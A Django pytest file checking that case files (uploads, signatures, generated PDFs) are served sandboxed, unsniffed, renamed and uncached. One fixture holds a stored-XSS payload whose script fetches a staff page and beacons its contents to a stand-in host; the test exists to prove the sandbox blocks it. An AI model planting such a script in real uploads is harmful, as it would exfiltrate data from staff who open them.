"""Files of a case served back to people: each is sandboxed, never sniffed, named by the server and kept out of
shared caches (docs/security.md, "Content-Security-Policy and permissions")."""

from __future__ import annotations

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from onego.cases.models import CaseMaterial, MaterialSource
from onego.cases.tests import factories as f
from onego.cases.tests.factories import submit

pytestmark = pytest.mark.django_db

HOSTILE = b"<html><script>fetch('/cases/staff/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>"


def assert_sandboxed(response, filename: str, disposition: str = "inline") -> None:
    assert response.status_code == 200
    assert response["Content-Security-Policy"].startswith("sandbox;")
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == f'{disposition}; filename="{filename}"'
    assert response["Cache-Control"] == "private, no-store"


def test_an_uploaded_material_opens_sandboxed_in_the_staff_viewer(w, client):
    case = submit(w, "simple")
    material = case.materials.get(material_key="floor_plan")
    client.force_login(w.health_reviewer)

    response = client.get(reverse("cases:material_file", args=[case.number, material.pk]))

    assert_sandboxed(response, f"floor_plan-{material.round}.pdf")
    assert response["X-Frame-Options"] == "SAMEORIGIN"  # the case page shows it in its PDF viewer
    assert b"".join(response.streaming_content) == f.PDF


def test_a_file_stored_with_a_web_page_type_still_runs_no_script(w, client):
    # given a material whose stored type is HTML (an older upload, or a type check that let one through)
    case = submit(w, "simple")
    material = CaseMaterial(
        case=case,
        material_key="floor_plan",
        name="平面布局图",
        source=MaterialSource.UPLOAD,
        content_type="text/html",
        size=len(HOSTILE),
        round=1,
    )
    material.file.save("plan.html", ContentFile(HOSTILE), save=True)
    client.force_login(w.health_reviewer)

    response = client.get(reverse("cases:material_file", args=[case.number, material.pk]))

    # then the browser renders it in a sandbox without script, under a name that is not .html
    assert_sandboxed(response, "floor_plan-1.bin")


def test_the_applicants_signature_is_sandboxed(w, client):
    case = submit(w, "simple")
    client.force_login(w.health_reviewer)

    assert_sandboxed(client.get(reverse("cases:signature_file", args=[case.number])), "signature.png")


def test_a_generated_document_the_applicant_opens_is_sandboxed(w, client):
    case = submit(w, "simple")
    document = CaseMaterial(
        case=case,
        material_key="application_form",
        name="申请书",
        source=MaterialSource.GENERATED,
        content_type="application/pdf",
        size=len(f.PDF),
    )
    document.file.save("form.pdf", ContentFile(f.PDF), save=True)
    client.force_login(w.applicant)

    response = client.get(reverse("cases:generated_file", args=[case.number, document.pk]))

    assert_sandboxed(response, f"{case.number}-application_form.pdf")
